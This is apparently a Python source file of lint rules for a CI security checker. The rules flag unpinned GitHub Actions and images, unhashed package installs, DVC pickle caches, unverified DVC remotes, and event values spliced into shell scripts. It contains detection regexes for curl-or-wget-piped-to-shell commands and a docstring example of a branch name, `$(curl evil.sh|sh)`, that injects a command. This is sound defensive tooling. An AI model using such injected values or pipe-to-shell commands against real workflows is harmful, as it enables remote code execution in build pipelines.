"""What the workflows bring in, and what they believe of it."""

from __future__ import annotations

import configparser
import re
from typing import TYPE_CHECKING, ClassVar

from mergegate.lint.rules.base import finding
from mergegate.lint.tree import Block, Text
from mergegate.lint.workflow import START

if TYPE_CHECKING:
    from collections.abc import Iterator

    from mergegate.facts.lint import LintFinding
    from mergegate.lint.tree import Command
    from mergegate.lint.workflow import Repository, Step

_PINNED = re.compile(r"\S+@[0-9a-f]{40}|docker://\S+@sha256:[0-9a-f]{64}|\./\S*")
_DIGEST = re.compile(r"\S+@sha256:[0-9a-f]{64}")
_FETCHED = re.compile(
    r"\b(?:curl|wget)\b[^|;]*\|\s*(?:sudo\s+)?(?:\S*/)?(?:(?:ba|z|da)?sh|python[\d.]*)\b|\b(?:ba)?sh\s+(?:-c\s+)?[\"']?[<$]\((?:curl|wget)\b"
)
_PIP = re.compile(START + r"(?:\S*/)?(?:python[\d.]*\s+-m\s+|uv\s+)?pip\d?\s+install\b(.*)")
_NPX = re.compile(START + r"(?:npx|bunx|pnpm\s+dlx|yarn\s+dlx|uvx|pipx\s+run)\s+((?:-\S+\s+)*)(\S+)")
_NPM = re.compile(START + r"npm\s+(?:install|i|add)\b(.*)")
_PICKLES = re.compile(r"\.dvc/tmp\b|(?:^|[\s/])\.dvc/?(?:$|\n)|site[-_]cache|/var/(?:tmp|cache)/dvc\b|Caches/dvc\b")
_EVENT = re.compile(
    r"\$\{\{[^}]*(?:github\.head_ref|github\.event\.[\w.*\[\]']*\.?(?:title|body|head_branch|display_title|message|label"
    r"|login|email|page_name|default_branch|head\.ref|full_name))[^}]*\}\}"
)
_OUTPUT = re.compile(r"\$\{\{[^}]*(?:steps\.[\w-]+\.outputs|needs\.[\w-]+\.outputs|inputs\.)[^}]*\}\}")


class ActionMoves:
    """**What.** An action or a container is named by a tag or a branch.

    **Why.** Whoever owns it can put other code behind the name tomorrow; it runs with the job's rights.

    **How to fix.** Name the commit (40 digits, the version as a comment behind it), or the image's `@sha256:` digest.
    """

    code: ClassVar[str] = "ML013"
    title: ClassVar[str] = "An action or image that can change under its name"

    def check(self, repo: Repository) -> Iterator[LintFinding]:
        """One finding for each action and image."""
        for workflow, job in repo.jobs():
            for node in (job.node, *(step.node for step in job.steps)):
                uses = node.text("uses")
                if uses and not _PINNED.fullmatch(uses):
                    yield finding(self, workflow.path, uses.line, f"{uses} names no commit")
            box = job.node.get("container")
            image = box if isinstance(box, Text) else box.text("image") if isinstance(box, Block) else None
            if image and not _DIGEST.fullmatch(image):
                yield finding(self, workflow.path, image.line, f"the image {image} names no digest")


class ToolMoves:
    """**What.** A script installs what the index has today: `pip install` without `--require-hashes`, `npx` without a
    version, `npm install`, `curl ... | sh`.

    **Why.** One bad release of any package, or one answer of somebody else's server, runs in the job. And
    another version of a library is another model: nobody could tell the change from the pull request's.

    **How to fix.** Lock with hashes: `pip install --require-hashes -r requirements.txt`, `npm ci`, `npx tool@1.2.3`;
    compare a downloaded script with a hash that is written down.
    """

    code: ClassVar[str] = "ML014"
    title: ClassVar[str] = "A tool that nobody pinned"

    def check(self, repo: Repository) -> Iterator[LintFinding]:
        """One finding for each command."""
        for workflow, _, command in repo.commands():
            if what := _unpinned(command):
                yield finding(self, workflow.path, command.line, what)


def _unpinned(command: Command) -> str:
    if _FETCHED.search(command.text):
        return "what a server answers is run as a script"
    pip = _PIP.search(command.text)
    if pip and not re.search(r"--require-hashes|--no-deps|--no-index", pip[1]):
        return "pip installs without hashes"
    npx = _NPX.search(command.text)
    if npx and not re.search(r".@\d+\.\d+|.==\d|\./|--no-install|--offline", npx[1] + npx[2]):
        return f"{npx[2]} is run in whatever version there is"
    npm = _NPM.search(command.text)
    if npm and not re.search(r"@\d+\.\d+\.\d+", npm[1]):
        return "npm installs what the index has today, not what the lock says"
    return ""


class PicklesKept:
    """**What.** A cache or an artefact holds `.dvc/tmp` (or all of `.dvc`) or DVC's site cache.

    **Why.** DVC keeps pickles there (diskcache, CVE-2025-69872): whoever can write the cache runs code in the job
    that restores it.

    **How to fix.** Keep `.dvc/cache` or the storage folder alone: what is in there is known by its hash.
    """

    code: ClassVar[str] = "ML015"
    title: ClassVar[str] = "DVC's pickles are kept between runs"

    def check(self, repo: Repository) -> Iterator[LintFinding]:
        """One finding for each path."""
        kept = ("actions/cache", "actions/cache/save", "actions/cache/restore", "actions/upload-artifact")
        for workflow, job in repo.jobs():
            for step in job.steps:
                path = step.inputs.text("path")
                if step.action in kept and _PICKLES.search(path):
                    yield finding(self, workflow.path, path.line, f"{step.action} keeps DVC's temporary folder")


class RemoteBelieved:
    """**What.** A remote of `.dvc/config` has no `verify = true`, or a workflow turns it off.

    **Why.** DVC believes the name of what it pulls: an object that was replaced in the remote is taken with exit
    code 0 and called clean.

    **How to fix.** `dvc remote modify NAME verify true`, for each remote.
    """

    code: ClassVar[str] = "ML016"
    title: ClassVar[str] = "The remote is believed unseen"

    def check(self, repo: Repository) -> Iterator[LintFinding]:
        """One finding for each remote, and each command that turns it off."""
        file = repo.files.get(".dvc/config")
        if file is not None:
            for name, line in _unverified(file.text):
                yield finding(self, file.path, line, f"the remote {name} is not verified")
        for workflow, _, command in repo.commands():
            if re.search(
                START + r"dvc\s+(?:remote\s+modify|config)\b.*\bverify[ =]+(?:false|0|no|off)\b", command.text
            ):
                yield finding(self, workflow.path, command.line, "the verification of a remote is turned off")


def _unverified(text: str) -> Iterator[tuple[str, int]]:
    parser = configparser.ConfigParser(interpolation=None, strict=False)
    try:
        parser.read_string(text)
    except configparser.Error:
        return
    for section in parser.sections():
        named = re.fullmatch(r"'?remote \"(.+)\"'?", section)
        if named and parser.get(section, "verify", fallback="false").strip().lower() not in {"true", "1", "yes", "on"}:
            heads = [number for number, line in enumerate(text.splitlines(), 1) if f"[{section}]" in line]
            yield named[1], heads[0] if heads else 1


class ValueInShell:
    """**What.** A value that a stranger writes is put into a script's text: a title, a branch, the output of a step
    that read an artefact; or it is evaluated (`eval`, `bash -c`), or written to `GITHUB_ENV`.

    **Why.** GitHub pastes it before the shell reads the line: a branch called `$(curl evil.sh|sh)` is a command.

    **How to fix.** Give it to the step under `env:` and quote it: `"$TITLE"`.
    """

    code: ClassVar[str] = "ML017"
    title: ClassVar[str] = "A stranger's value is part of a script"

    def check(self, repo: Repository) -> Iterator[LintFinding]:
        """One finding for each line of a script."""
        for workflow, job in repo.jobs():
            theirs = job.privileged or job.for_pull_requests or workflow.composite
            for step in job.steps:
                for line, text in _scripts(step):
                    if what := _spliced(text, theirs=theirs):
                        yield finding(self, workflow.path, line, what)


def _scripts(step: Step) -> Iterator[tuple[int, str]]:
    yield from ((command.line, command.text) for command in step.commands)
    if step.action == "actions/github-script":
        yield from ((command.line, command.text) for command in step.inputs.text("script").commands)


def _spliced(text: str, *, theirs: bool) -> str:
    if _EVENT.search(text):
        return "a value of the event is put into a script"
    if not theirs:
        return ""
    if _OUTPUT.search(text):
        return "an output or input is put into a script"
    if re.search(START + r"eval\s+.*\$|\b(?:ba)?sh\s+-c\s+[\"'].*\$\{?[A-Z]", text):
        return "a value is evaluated as a script"
    if re.search(r"(?:\b(?:cat|cp|tee)\b|\$\(|<).*(?:evidence|artifact|artefact).*GITHUB_(?:ENV|PATH)\b", text):
        return "an artefact decides the environment of the next steps"
    return ""
